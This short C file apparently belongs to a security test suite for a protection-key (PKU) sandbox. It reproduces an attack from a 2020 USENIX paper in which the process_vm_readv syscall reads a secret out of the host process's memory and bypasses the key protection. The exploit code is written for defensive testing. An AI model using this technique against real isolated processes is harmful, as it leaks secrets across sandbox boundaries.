/* Tries: to read the secret by process_vm_readv, for which keys mean nothing
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    uint64_t local[2] = {ADDRESS(at->loot), SECRET_SIZE},
             remote[2] = {at->secret_global, SECRET_SIZE};
    kernel6(SYS_process_vm_readv, at->host_process, ADDRESS(local), 1, ADDRESS(remote), 1, 0);
    return 0;
}
